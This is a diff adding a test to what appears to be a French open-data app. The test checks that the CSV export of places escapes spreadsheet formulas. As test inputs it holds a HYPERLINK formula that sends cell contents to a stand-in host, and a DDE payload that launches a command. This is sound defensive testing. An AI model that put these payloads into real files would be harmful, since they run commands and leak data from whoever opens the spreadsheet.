@@ -101,6 +101,26 @@ def test_csv_export_has_the_schema_header_and_values(client, places):
     assert all(opendata.validate(r) == [] for r in rows)
 
 
+FORMULA = '=HYPERLINK("http://exemple.org/?"&A1,"Cliquez")'
+
+
+def test_a_formula_never_reaches_a_spreadsheet_from_the_admin_or_an_import(client, home, tmp_path):
+    make.structure(name=FORMULA, phone="03 53 01 10 20")
+    path = tmp_path / "lieux.csv"
+    path.write_text(
+        "id;pivot;nom;commune;code_postal;adresse;date_maj;services;latitude;longitude;telephone;typologie\n"
+        "cd37-002;W372001234;@SUM(1+1)*cmd|' /C calc'!A0;Langeais;37130;1 place du 14 Juillet;2024-05-01;"
+        "Accès internet et matériel informatique;47.32;0.40;+33247240000;ASSO\n",
+        encoding="utf-8",
+    )
+    call_command("import_lieux", str(path), stdout=io.StringIO())
+    rows = list(csv.DictReader(io.StringIO(client.get("/carte/lieux.csv").content.decode("utf-8"))))
+    names = sorted(r["nom"] for r in rows)
+    assert names == sorted(["'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"])
+    assert {r["telephone"] for r in rows} == {"+33353011020", "+33247240000"}  # the schema's form, kept
+    assert all(opendata.validate(r) == [] for r in rows)
+
+
 def test_json_and_geojson_exports_state_the_licence_and_validate(client, places):
     document = json.loads(client.get("/carte/lieux.json").content)
     assert "Licence Ouverte" in document["licence"] and "2.0" in document["licence"]
